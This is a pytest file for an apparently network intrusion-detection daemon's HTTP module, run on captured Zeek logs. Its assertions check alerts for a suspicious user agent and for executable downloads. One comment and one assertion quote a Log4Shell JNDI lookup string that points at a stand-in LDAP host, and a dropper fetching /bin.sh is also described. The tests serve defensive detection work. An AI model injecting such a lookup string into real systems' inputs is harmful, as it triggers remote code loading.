"""The http module on real Zeek logs (../shared/datasets), through a real slipsd."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from slipsd.store import Store

from conftest import Daemon, dataset, module_dirs_conf

pytestmark = pytest.mark.corpus


@pytest.fixture(scope="module")
def analyze(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[str], Any]]:
    """``analyze(name)``: the http module's evidence on one dataset (one daemon for all)."""
    root = tmp_path_factory.mktemp("corpus-http")
    daemon: Daemon | None = None

    def run(name: str) -> list[dict[str, Any]]:
        nonlocal daemon
        folder = dataset(name)
        if daemon is None:
            daemon = Daemon(root / "daemon", module_dirs_conf("http")).start()
        result = daemon.analyze(folder, root / "out" / name)
        assert result["state"] == "finished" and not result["problem"], result["problem"]
        assert "Traceback" not in daemon.log_text()
        evidence = Store(daemon.redis(), result["id"]).all_evidence()
        assert {e["module"] for e in evidence} <= {"http"}
        return evidence

    yield run
    if daemon is not None:
        daemon.stop()


def test_test14_user_agent_and_executables(analyze: Callable[[str], Any]) -> None:
    evidence = analyze("test14-malicious-zeek-dir")
    # http.log: 10.0.2.15 asks 195.113.232.72 (img-s-msn-com.akamaized.net) for an image
    # with the user agent "${jndi:ldap://xyz.xyz.com:39356/a}", a Log4Shell lookup.
    agents = [e for e in evidence if e["type"] == "SUSPICIOUS_USER_AGENT"]
    assert [(e["attacker"], e["victim"]) for e in agents] == [("10.0.2.15", "195.113.232.72")]
    assert "${jndi:ldap://xyz.xyz.com:39356/a}" in agents[0]["description"]
    assert agents[0]["uids"] == ["CQG0MwVzInjvGumd2"]
    # Two executables over plain HTTP: /bin.sh (application/x-msdownload, no user agent)
    # asked of 147.32.80.7 with the Host header 112.255.161.10 (a bare address: medium),
    # and a Chrome installer (application/x-dosexec) fetched by BITS from a Google CDN.
    downloads = {e["victim"]: e for e in evidence if e["type"] == "EXECUTABLE_DOWNLOAD"}
    assert set(downloads) == {"147.32.80.7", "195.113.214.206"}
    dropper = downloads["147.32.80.7"]
    assert dropper["attacker"] == "10.0.2.15" and dropper["threat_level"] == "medium"
    assert "application/x-msdownload" in dropper["description"]
    assert "112.255.161.10/bin.sh" in dropper["description"]
    assert dropper["uids"] == ["CAeDWs37BipkfP21u9"]
    installer = downloads["195.113.214.206"]
    assert installer["threat_level"] == "low" and "application/x-dosexec" in installer[
        "description"]
    # Every agent of 10.0.2.15 (IE 7/8, Chrome, CryptoAPI, BITS, NCSI) claims Windows or
    # nothing (Wget): no MULTIPLE_USER_AGENTS; the search engines got real pages only.
    assert Counter(e["type"] for e in evidence) == {
        "SUSPICIOUS_USER_AGENT": 1, "EXECUTABLE_DOWNLOAD": 2}


def test_test9_same_story_without_the_dropper(analyze: Callable[[str], Any]) -> None:
    # test9's http.log is test14's without the Wget requests, and /bin.sh is text/plain
    # there: only the Chrome installer is an executable. files.log repeats the HTTP
    # transfers (left to http.log) and TLS certificates: nothing more.
    evidence = analyze("test9-mixed-zeek-dir")
    found = sorted((e["type"], e["attacker"], e["victim"]) for e in evidence)
    assert found == [
        ("EXECUTABLE_DOWNLOAD", "10.0.2.15", "195.113.214.206"),
        ("SUSPICIOUS_USER_AGENT", "10.0.2.15", "195.113.232.72"),
    ]


def test_test10_tls_and_files_only_is_quiet(analyze: Callable[[str], Any]) -> None:
    # No http.log; ssl.log names no paste site; files.log only certificates over TLS.
    assert analyze("test10-mixed-zeek-dir") == []
